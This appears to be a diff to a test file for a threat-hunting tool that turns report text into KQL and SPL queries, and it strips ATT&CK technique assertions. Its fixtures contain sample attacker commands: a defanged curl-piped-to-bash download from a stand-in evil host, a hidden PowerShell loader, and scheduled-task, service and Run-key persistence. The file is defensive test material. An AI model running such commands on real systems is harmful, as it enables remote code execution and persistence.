@@ -41,7 +41,6 @@ describe('an article that names a script', () => {
       useCase: 'UC_0_0',
       phase: 'exploit',
       confidence: 'High',
-      techniques: ['T1204.002'],
       evidence: [`steal_tokens.js: ${text}`],
     });
   });
@@ -144,7 +143,7 @@ describe('paths', () => {
 
   it('alone make a hunt of the install phase, at most 8 of them', () => {
     const hunt = behaviour(Array.from({ length: 20 }, (_, n) => `/opt/acmex/part${n}/agentd`).join(' and '));
-    expect(hunt).toMatchObject({ phase: 'install', techniques: ['T1204.002'] });
+    expect(hunt).toMatchObject({ phase: 'install' });
     expect(new Set(hunt?.kql?.match(/part\d+/g)).size).toBe(8);
   });
 });
@@ -158,7 +157,6 @@ describe('registry keys, services, mutexes', () => {
     expect(hunt?.kql).toContain(
       '(RegistryKey endswith @"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" and RegistryValueName =~ "AcmexSync")',
     );
-    expect(hunt?.techniques).toEqual(['T1547.001']);
   });
 
   it.each([
@@ -176,7 +174,6 @@ describe('registry keys, services, mutexes', () => {
     expect(hunt?.kql).toContain(
       'ActionType in~ ("ServiceInstalled") and tostring(AdditionalFields) has_any ("AcmexSvc")',
     );
-    expect(hunt?.techniques).toEqual(['T1543.003']);
     expect(behaviour('sc create AcmexSvc binPath= x')?.kql).toContain('AcmexSvc');
   });
 
@@ -191,15 +188,14 @@ describe('registry keys, services, mutexes', () => {
 
 describe('command lines', () => {
   it.each([
-    ['schtasks /create /tn "AcmexUpdate" /sc minute', 'AcmexUpdate', 'T1053.005'],
-    ['powershell -nop -w hidden -c Invoke-AcmexLoader -Stage 2', 'Invoke-AcmexLoader -Stage 2', 'T1059.001'],
-    ['$ curl -fsSL hxxps://drop[.]acmex-evil[.]net/i | bash', 'https://drop.acmex-evil.net/i', 'T1059.004'],
-    ['- `rundll32 acmexstage,#44 launch_mode7`', 'acmexstage,#44 launch_mode7', 'T1059'],
-  ])('%s', (text, fragment, technique) => {
+    ['schtasks /create /tn "AcmexUpdate" /sc minute', 'AcmexUpdate'],
+    ['powershell -nop -w hidden -c Invoke-AcmexLoader -Stage 2', 'Invoke-AcmexLoader -Stage 2'],
+    ['$ curl -fsSL hxxps://drop[.]acmex-evil[.]net/i | bash', 'https://drop.acmex-evil.net/i'],
+    ['- `rundll32 acmexstage,#44 launch_mode7`', 'acmexstage,#44 launch_mode7'],
+  ])('%s', (text, fragment) => {
     const hunt = behaviour(`They ran:\n\n${text}\n\nThat was all.`);
     expect(hunt?.spl?.replace(/\\(["\\])/g, '$1')).toContain(fragment);
     expect(hunt?.kql?.replace(/\\(["\\])/g, '$1')).toContain(fragment);
-    expect(hunt?.techniques).toContain(technique);
     expect(hunt?.phase).toBe('exploit');
   });
 
@@ -253,7 +249,7 @@ describe('packages', () => {
   ])('are found as %s', (_what, text, expected) => {
     const [hunt] = titles(text);
     for (const piece of expected) expect(hunt?.spl).toContain(piece);
-    expect(hunt).toMatchObject({ phase: 'delivery', techniques: ['T1195.002'] });
+    expect(hunt).toMatchObject({ phase: 'delivery' });
   });
 
   it.each([
